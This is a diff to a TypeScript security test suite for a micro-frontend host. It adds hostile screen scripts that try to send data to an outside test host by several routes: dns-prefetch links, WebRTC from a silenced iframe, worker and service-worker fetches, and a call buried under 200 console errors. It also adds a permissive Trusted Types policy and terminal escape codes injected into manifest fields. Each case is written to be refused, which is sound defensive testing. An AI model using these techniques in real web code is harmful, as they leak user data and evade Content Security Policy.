@@ -28,11 +28,15 @@ interface Hostile {
   readonly script?: string;
   readonly screens?: readonly ScreenDescription[];
   readonly bill?: string;
+  /** Further files of the version. */
+  readonly files?: Readonly<Record<string, string>>;
   /** Changes the description before it is signed. */
   readonly changes?: object;
 }
 
 const QUESTS = { path: '/quests', title: 'Quêtes' };
+/** The minimal shell has no script policy, so a screen can make one that accepts every address. */
+const ANY_SCRIPT = "trustedTypes.createPolicy('default', { createScriptURL: (address) => address })";
 
 describe('attacks of a team with a token and a key of its own', () => {
   let folder: string;
@@ -104,10 +108,17 @@ describe('attacks of a team with a token and a key of its own', () => {
 
   /** Builds, signs and uploads a version as the kit does. */
   async function publish(version: string, hostile: Hostile) {
-    const { script = '', screens = [QUESTS], bill = '{"components":[]}', changes } = hostile;
+    const {
+      script = '',
+      screens = [QUESTS],
+      bill = '{"components":[]}',
+      files: more = {},
+      changes,
+    } = hostile;
     const dist = join(await temporaryFolder(), 'dist');
     await mkdir(dist);
     await writeFile(join(dist, 'remoteEntry.js'), routesOf('/quests', `async mount() { ${script}; }`));
+    for (const [file, text] of Object.entries(more)) await writeFile(join(dist, file), text);
     const description = {
       name: 'quests',
       entry: 'remoteEntry.js',
@@ -156,11 +167,54 @@ describe('attacks of a team with a token and a key of its own', () => {
       () => `navigator.sendBeacon('${outside}/beacon'); new WebSocket('${outside.replace('http', 'ws')}')`,
       /does not mount|asks for/,
     ],
+    [
+      'asks for a name or a connection in advance',
+      () =>
+        `for (const rel of ['dns-prefetch', 'icon PreConnect']) {
+           const link = document.createElement('link');
+           document.head.append(link);
+           link.href = '${outside}/'; link.rel = rel; link.remove();
+         }`,
+      /it connects in advance to http:/,
+    ],
+    [
+      'takes WebRTC from a frame whose console it has silenced',
+      () =>
+        `const frame = document.createElement('iframe');
+         document.body.append(frame);
+         const { console, RTCPeerConnection } = frame.contentWindow;
+         console.error = () => undefined;
+         new RTCPeerConnection.prototype.constructor({}).createDataChannel('a')`,
+      /it uses WebRTC/,
+    ],
+    [
+      'fetches in a worker',
+      () =>
+        `${ANY_SCRIPT}; const call = "fetch('${outside}/worker', { mode: 'no-cors' }).catch(() => 0)";
+         new Worker(URL.createObjectURL(new Blob([call])))`,
+      /the Content Security Policy refuses what it asks for: http:\S+\/worker/,
+    ],
+    [
+      'installs a service worker that fetches',
+      () =>
+        `${ANY_SCRIPT}; const [, version] = /quests\\/([^/]+)/.exec(import.meta.url);
+         await navigator.serviceWorker.register('/remotes/quests/' + version + '/calling.js')`,
+      /it asks for http:\S+\/service-worker/,
+    ],
+    [
+      'hides a refused call behind many errors and a long address',
+      () =>
+        `for (let count = 0; count < 200; count += 1) console.error(count);
+         await fetch('${outside}/' + 'a'.repeat(400), { mode: 'no-cors' }).catch(() => undefined)`,
+      /does not mount: \S+ to 'http:/,
+    ],
   ];
   for (const [index, [title, script, refusal]] of SCREENS.entries())
     test(`A screen that ${title} is refused, and the machine gets no connection`, async () => {
       const version = `0.1.${index}`;
-      assert.equal((await publish(version, { script: script() })).status, 200);
+      const calling = `fetch('${outside}/service-worker', { mode: 'no-cors' })`;
+      const files = { 'calling.js': calling };
+      assert.equal((await publish(version, { script: script(), files })).status, 200);
       const { status, text } = await activateVersion(version);
       assert.equal(status, 409, text);
       assert.match(text, refusal);
@@ -223,6 +277,25 @@ describe('attacks of a team with a token and a key of its own', () => {
       'terminal codes as its commit',
       { changes: { commit: '\u001b[2J\u001b[31m' } },
       /commit is not a commit/,
+    ],
+    [
+      'terminal codes as the contract that it needs',
+      {
+        changes: {
+          needs: { contract: '\u001b[2J', shared: {}, events: {}, runtime: federationRuntime() },
+        },
+      },
+      /needs\.contract has an unprintable character/,
+    ],
+    [
+      'terminal codes as the name of a library',
+      { changes: { uses: { '\u001b[31mreact': ['use'] } } },
+      /does not describe it: uses\. \[31mreact Invalid/,
+    ],
+    [
+      'terminal codes as the name of a file',
+      { changes: { integrity: { '\u001b[2J.js': 'sha384-x' } } },
+      /does not describe it: integrity\. \[2J\.js Invalid/,
     ],
     ['a version as its number that is none', { changes: { version: '01.0.0' } }, /version is not a version/],
   ] as const)
